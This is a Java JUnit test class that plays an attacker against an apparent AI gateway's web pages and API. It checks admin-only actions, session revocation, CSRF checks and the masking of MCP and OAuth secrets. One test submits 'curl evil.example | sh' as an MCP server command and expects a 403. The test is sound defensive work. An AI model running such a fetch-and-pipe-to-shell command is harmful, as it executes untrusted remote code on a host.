package dev.maestro.gateway;

import io.vertx.core.MultiMap;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 13 points 1 and 7 as an attacker tries them: a member driving the web pages at admin
 * things, browser sessions outliving their user or role, and members reading the secrets in MCP
 * server settings and OAuth clients.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FrontDoorHostileTest {
  static final String SECRET = "s3cret-value-42";

  GatewayFixture fx;
  String adminToken;

  @BeforeAll
  void start() throws Exception {
    fx = new GatewayFixture();
    adminToken = fx.adminToken();
  }

  @AfterAll
  void stop() throws Exception {
    fx.close();
  }

  record Browser(String cookie, String csrf) {}

  Browser signIn(String username, String password) {
    HttpResponse<Buffer> r = fx.client.post(fx.port(), "127.0.0.1", "/login")
        .sendForm(MultiMap.caseInsensitiveMultiMap().add("username", username).add("password", password)).await();
    assertThat(r.statusCode()).isEqualTo(303);
    String cookie = r.cookies().stream().filter(c -> c.startsWith("maestro_session=")).map(c -> c.substring(0, c.indexOf(';')))
        .findFirst().orElseThrow();
    Matcher m = Pattern.compile("name=\"csrf-token\" content=\"([^\"]+)\"").matcher(page(new Browser(cookie, null), "/sessions").bodyAsString());
    assertThat(m.find()).isTrue();
    return new Browser(cookie, m.group(1));
  }

  Browser member() {
    JsonObject u = fx.newUser(adminToken, "member");
    return signIn(u.getString("username"), "password-" + u.getString("username"));
  }

  HttpResponse<Buffer> page(Browser b, String path) {
    return fx.client.get(fx.port(), "127.0.0.1", path).putHeader("Cookie", b.cookie()).send().await();
  }

  HttpResponse<Buffer> post(Browser b, String path, String... pairs) {
    MultiMap f = MultiMap.caseInsensitiveMultiMap().add("_csrf", b.csrf());
    for (int i = 0; i < pairs.length; i += 2) f.add(pairs[i], pairs[i + 1]);
    return fx.client.post(fx.port(), "127.0.0.1", path).putHeader("Cookie", b.cookie()).sendForm(f).await();
  }

  String adminServer() {
    return fx.tools.createMcpServer(new JsonObject().put("name", "adm" + UUID.randomUUID().toString().substring(0, 6))
        .put("transport", "http").put("url", "https://mcp.example/admin")).await().getString("id");
  }

  // ---- point 1: the pages have the API's rules ----

  @Test
  void aMemberCannotAddAStdioMcpServerThroughThePage() {
    Browser m = member();
    int before = fx.tools.servers.size();
    HttpResponse<Buffer> r = post(m, "/mcp", "name", "pwn", "transport", "stdio", "command", "sh", "args", "-c\ncurl evil.example | sh");
    assertThat(r.statusCode()).isEqualTo(403);
    assertThat(r.bodyAsString()).contains("only an admin may do this");
    assertThat(fx.tools.servers).hasSize(before);
    assertThat(fx.tools.servers.values()).noneMatch(s -> "pwn".equals(s.getString("name")));
  }

  @Test
  void aMemberCannotSetAToolPolicyThroughThePage() {
    Browser m = member();
    fx.tools.tools.get("read_file").put("policy", "ask");
    assertThat(post(m, "/tools/read_file", "enabled", "on", "policy", "allow").statusCode()).isEqualTo(403);
    assertThat(fx.tools.tools.get("read_file").getString("policy")).isEqualTo("ask");
  }

  @Test
  void aMemberCannotDeleteOrRestartTheAdminsMcpServers() {
    Browser m = member();
    String id = adminServer();
    assertThat(post(m, "/mcp/" + id + "/delete").statusCode()).isEqualTo(403);
    assertThat(post(m, "/mcp/" + id + "/restart").statusCode()).isEqualTo(403);
    assertThat(fx.tools.servers).containsKey(id);
  }

  @Test
  void aMemberCannotAddOrDeleteOAuthClientsThroughTheSettingsForms() {
    Browser m = member();
    String id = fx.auth.createOAuthClient(new JsonObject().put("provider", "openai").put("name", "keep")
        .put("authorizeUrl", "https://as.example/a").put("tokenUrl", "https://as.example/t").put("clientId", "c")).await().getString("id");
    int before = fx.auth.listOAuthClients().await().size();
    assertThat(post(m, "/settings/oauth-clients", "provider", "openai", "name", "evil", "authorizeUrl", "https://evil.example/a",
        "tokenUrl", "https://evil.example/t", "clientId", "x").statusCode()).isEqualTo(403);
    assertThat(post(m, "/settings/oauth-clients/" + id + "/delete").statusCode()).isEqualTo(403);
    assertThat(fx.auth.listOAuthClients().await()).hasSize(before);
    assertThat(fx.auth.getOAuthClient(id).await().getString("name")).isEqualTo("keep");
  }

  @Test
  void aDemotedAdminLosesSettingsAndAdminFormsAtOnce() {
    JsonObject u = fx.newUser(adminToken, "admin");
    Browser b = signIn(u.getString("username"), "password-" + u.getString("username"));
    assertThat(page(b, "/settings").statusCode()).isEqualTo(200);
    assertThat(page(b, "/sessions").bodyAsString()).contains("href=\"/settings\"");
    assertThat(fx.call(HttpMethod.PATCH, "/api/v1/users/" + u.getString("id"), adminToken, new JsonObject().put("role", "member"))
        .status()).isEqualTo(200);
    assertThat(page(b, "/settings").statusCode()).isEqualTo(403);
    assertThat(page(b, "/sessions").bodyAsString()).doesNotContain("href=\"/settings\"");
    int before = fx.tools.servers.size();
    assertThat(post(b, "/mcp", "name", "late", "transport", "stdio", "command", "sh").statusCode()).isEqualTo(403);
    assertThat(fx.tools.servers).hasSize(before);
  }

  @Test
  void aDeletedUsersCookieGoesToLoginAndItsFormsChangeNothing() {
    JsonObject u = fx.newUser(adminToken, "member");
    Browser b = signIn(u.getString("username"), "password-" + u.getString("username"));
    String session = fx.sessions.create(u.getString("id"), new JsonObject().put("title", "mine").put("provider", "openai")
        .put("model", "m")).await().getString("id");
    assertThat(fx.call(HttpMethod.DELETE, "/api/v1/users/" + u.getString("id"), adminToken, null).status()).isEqualTo(204);
    assertThat(post(b, "/sessions/" + session + "/delete").statusCode()).isEqualTo(401);
    HttpResponse<Buffer> r = page(b, "/sessions/" + session);
    assertThat(r.statusCode()).isEqualTo(303);
    assertThat(r.getHeader("Location")).isEqualTo("/login");
    assertThat(fx.sessions.sessions).containsKey(session);
  }

  @Test
  void aDeletedUsersCookieCannotCallTheJsonApiEither() {
    JsonObject u = fx.newUser(adminToken, "member");
    Browser b = signIn(u.getString("username"), "password-" + u.getString("username"));
    assertThat(fx.call(HttpMethod.DELETE, "/api/v1/users/" + u.getString("id"), adminToken, null).status()).isEqualTo(204);
    HttpResponse<Buffer> r = fx.client.get(fx.port(), "127.0.0.1", "/api/v1/sessions").putHeader("Cookie", b.cookie()).send().await();
    assertThat(r.statusCode()).isEqualTo(401);
  }

  @Test
  void aFormWithoutThisSessionsCsrfTokenChangesNothing() {
    Browser m = member();
    int before = fx.sessions.templates.size();
    HttpResponse<Buffer> r = fx.client.post(fx.port(), "127.0.0.1", "/templates").putHeader("Cookie", m.cookie())
        .sendForm(MultiMap.caseInsensitiveMultiMap().add("_csrf", "forged").add("name", "t").add("provider", "openai").add("model", "m"))
        .await();
    assertThat(r.statusCode()).isEqualTo(403);
    assertThat(fx.sessions.templates).hasSize(before);
  }

  @Test
  void aSocketWhoseUserWasDeletedBehindTheGatewaysBackCannotSendOrCancel() throws Exception {
    JsonObject u = fx.newUser(adminToken, "member");
    fx.sessions.quietSend = true;
    String session = fx.newSession(u.getString("token"));
    GatewayFixture.Ws ws = fx.ws(u.getString("token"));
    fx.subscribe(ws, session, null);
    // No revocation broadcast (as if it were lost): only the per-frame user check can stop the socket.
    io.vertx.sqlclient.Pool pool = io.vertx.pgclient.PgBuilder.pool().with(new io.vertx.sqlclient.PoolOptions().setMaxSize(1))
        .connectingTo(io.vertx.pgclient.PgConnectOptions.fromUri(dev.maestro.testkit.TestEnv.pgUrl())).using(fx.vertx).build();
    try {
      pool.preparedQuery("DELETE FROM gateway.app_user WHERE id = $1").execute(io.vertx.sqlclient.Tuple.of(UUID.fromString(u.getString("id"))))
          .await();
    } finally {
      pool.close().await();
    }
    ws.send(new JsonObject().put("type", "send").put("id", "s1").put("sessionId", session).put("text", "after deletion"));
    JsonObject err = ws.next(f -> "s1".equals(f.getString("id")), java.time.Duration.ofSeconds(10));
    assertThat(err.getString("type")).isEqualTo("error");
    assertThat(err.getString("code")).isEqualTo("unauthorized");
    ws.send(new JsonObject().put("type", "cancel").put("id", "c1").put("sessionId", session));
    assertThat(ws.next(f -> "c1".equals(f.getString("id")), java.time.Duration.ofSeconds(10)).getString("code")).isEqualTo("unauthorized");
    assertThat(fx.sessions.sessions.get(session).getJsonArray("messages").encode()).doesNotContain("after deletion");
  }

  @Test
  void theOAuthConnectFormGoesThroughStartOAuthAndComesBackToTheBrowsersHost() {
    Browser m = member();
    String client = fx.auth.createOAuthClient(new JsonObject().put("provider", "openai").put("name", "c")
        .put("authorizeUrl", "https://as.example/a").put("tokenUrl", "https://as.example/t").put("clientId", "c")).await().getString("id");
    HttpResponse<Buffer> r = post(m, "/credentials/oauth", "oauthClientId", client, "label", "Work");
    assertThat(r.statusCode()).isEqualTo(303);
    assertThat(r.getHeader("Location")).startsWith("https://auth.example/authorize?state=");
    assertThat(r.getHeader("Location")).endsWith("&redirect_uri=http://127.0.0.1:" + fx.port() + "/oauth/callback");
  }

  @Test
  void approvingAnotherUsersToolCallOverRestIsNotFoundAndAnOverlongCallIdTooChangesNothing() {
    String owner = fx.newUser(adminToken, "member").getString("token");
    String other = fx.newUser(adminToken, "member").getString("token");
    String session = fx.newSession(owner);
    int before = fx.sessions.calls.size();
    assertThat(fx.post("/api/v1/sessions/" + session + "/approvals/call-1", other, new JsonObject().put("decision", "allow")).status())
        .isEqualTo(404);
    assertThat(fx.post("/api/v1/sessions/" + session + "/approvals/" + "x".repeat(300), owner, new JsonObject().put("decision", "allow"))
        .status()).isEqualTo(404);
    assertThat(fx.post("/api/v1/sessions/" + session + "/approvals/call-1", owner, new JsonObject().put("decision", "maybe")).status())
        .isEqualTo(400);
    assertThat(fx.sessions.calls.subList(before, fx.sessions.calls.size())).noneMatch(c -> "approve".equals(c.getString("op")));
  }

  // ---- point 7: secrets are write-only for members ----

  JsonObject[] secretServers() {
    JsonObject stdio = fx.tools.createMcpServer(new JsonObject().put("name", "st" + UUID.randomUUID().toString().substring(0, 6))
        .put("transport", "stdio").put("command", "npx")
        .put("args", new JsonArray().add("server-x").add("--token=" + SECRET).add(SECRET))
        .put("env", new JsonObject().put("API_KEY", SECRET))).await();
    JsonObject http = fx.tools.createMcpServer(new JsonObject().put("name", "ht" + UUID.randomUUID().toString().substring(0, 6))
        .put("transport", "http").put("url", "https://user:" + SECRET + "@mcp.example/x?key=" + SECRET + "&" + SECRET + "#" + SECRET)
        .put("headers", new JsonObject().put("Authorization", "Bearer " + SECRET))
        .put("oauthClient", new JsonObject().put("clientId", "cid").put("clientSecret", SECRET))).await();
    return new JsonObject[] {stdio, http};
  }

  @Test
  void aMemberSeesMcpArgsUrlQueryEnvAndHeadersMaskedInTheApi() {
    JsonObject[] s = secretServers();
    String memberToken = fx.newUser(adminToken, "member").getString("token");
    String list = fx.get("/api/v1/mcp-servers", memberToken).body();
    assertThat(list).doesNotContain(SECRET).contains("********").contains("API_KEY").contains("Authorization").contains("key=")
        .contains("mcp.example/x");
    for (JsonObject server : s) {
      String one = fx.get("/api/v1/mcp-servers/" + server.getString("id"), memberToken).body();
      assertThat(one).doesNotContain(SECRET).contains("********");
    }
    JsonObject stdio = fx.get("/api/v1/mcp-servers/" + s[0].getString("id"), memberToken).json();
    assertThat(stdio.getString("command")).isEqualTo("npx");
    assertThat(stdio.getJsonArray("args")).hasSize(3);
  }

  @Test
  void aMemberSeesMcpSecretsMaskedOnTheMcpPage() {
    secretServers();
    String html = page(member(), "/mcp").bodyAsString();
    assertThat(html).doesNotContain(SECRET).contains("********");
  }

  @Test
  void anAdminStillSeesWhatItConfigured() {
    JsonObject[] s = secretServers();
    JsonObject stdio = fx.get("/api/v1/mcp-servers/" + s[0].getString("id"), adminToken).json();
    assertThat(stdio.getJsonArray("args").getString(1)).isEqualTo("--token=" + SECRET);
  }

  @Test
  void aMemberSeesOAuthClientExtraHeadersMasked() {
    String id = fx.auth.createOAuthClient(new JsonObject().put("provider", "openai").put("name", "hdr")
        .put("authorizeUrl", "https://as.example/a").put("tokenUrl", "https://as.example/t").put("clientId", "c")
        .put("clientSecret", SECRET).put("extraHeaders", new JsonObject().put("X-Api-Key", SECRET))).await().getString("id");
    String memberToken = fx.newUser(adminToken, "member").getString("token");
    String list = fx.get("/api/v1/oauth-clients", memberToken).body();
    String one = fx.get("/api/v1/oauth-clients/" + id, memberToken).body();
    assertThat(list).doesNotContain(SECRET).contains("X-Api-Key");
    assertThat(one).doesNotContain(SECRET).contains("X-Api-Key").contains("********");
    assertThat(page(member(), "/credentials").bodyAsString()).doesNotContain(SECRET);
    // the client secret is never shown, not even to an admin
    assertThat(fx.get("/api/v1/oauth-clients/" + id, adminToken).body()).doesNotContain("clientSecret");
  }

  @Test
  void aMembersCookieGetsTheSameMaskingAsItsToken() {
    secretServers();
    Browser m = member();
    HttpResponse<Buffer> r = fx.client.get(fx.port(), "127.0.0.1", "/api/v1/mcp-servers").putHeader("Cookie", m.cookie()).send().await();
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(r.bodyAsString()).doesNotContain(SECRET);
  }
}
